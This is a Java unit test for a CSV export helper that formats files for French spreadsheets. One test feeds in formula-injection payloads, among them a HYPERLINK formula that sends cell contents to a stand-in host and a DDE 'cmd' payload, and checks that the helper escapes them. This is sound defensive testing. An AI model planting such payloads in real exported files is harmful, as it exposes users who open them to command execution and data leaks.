package fr.pepites.common;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;

/** CSV files as French spreadsheets open them. */
class CsvTest {

    @Test
    void fieldsAreSeparatedBySemicolonsAfterAByteOrderMarkAndQuotedWhenTheyMustBe() {
        byte[] csv = Csv.of(List.of("SIAE", "Sorties"), List.of(
                List.of("Atelier Vélo Solidaire", 3),
                Arrays.asList("Tri \"Textile\"; Charentais", null)));

        assertThat(Arrays.copyOf(csv, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        assertThat(new String(csv, StandardCharsets.UTF_8)).isEqualTo("\uFEFFSIAE;Sorties\r\n"
                + "Atelier Vélo Solidaire;3\r\n"
                + "\"Tri \"\"Textile\"\"; Charentais\";\r\n");
    }

    @Test
    void aTextASpreadsheetWouldRunAsAFormulaIsWrittenAsTextAfterAQuote() {
        byte[] csv = Csv.of(List.of("Texte"), List.of(
                List.of("=HYPERLINK(\"https://example.org/?\"&A1;\"Cliquez\")"),
                List.of("+1+cmd|' /C calc'!A0"),
                List.of("-2+3"),
                List.of("@SUM(A1:A9)"),
                List.of("\t=1+1"),
                List.of("\r=1+1"),
                List.of("\u00A0 =1+1"),
                List.of("Atelier = vélo")));

        assertThat(new String(csv, StandardCharsets.UTF_8)).isEqualTo("\uFEFFTexte\r\n"
                + "\"'=HYPERLINK(\"\"https://example.org/?\"\"&A1;\"\"Cliquez\"\")\"\r\n"
                + "'+1+cmd|' /C calc'!A0\r\n"
                + "'-2+3\r\n"
                + "'@SUM(A1:A9)\r\n"
                + "'\t=1+1\r\n"
                + "\"'\r=1+1\"\r\n"
                + "'\u00A0 =1+1\r\n"
                + "Atelier = vélo\r\n");
    }

    @Test
    void numbersStayNumbersEvenNegative() {
        byte[] csv = Csv.of(List.of("Écart", "Part"), List.of(List.of(-3, "-12,5"), List.of(-0.5, "+4")));

        assertThat(new String(csv, StandardCharsets.UTF_8)).isEqualTo("\uFEFFÉcart;Part\r\n-3;-12,5\r\n"
                + "-0.5;+4\r\n");
    }
}
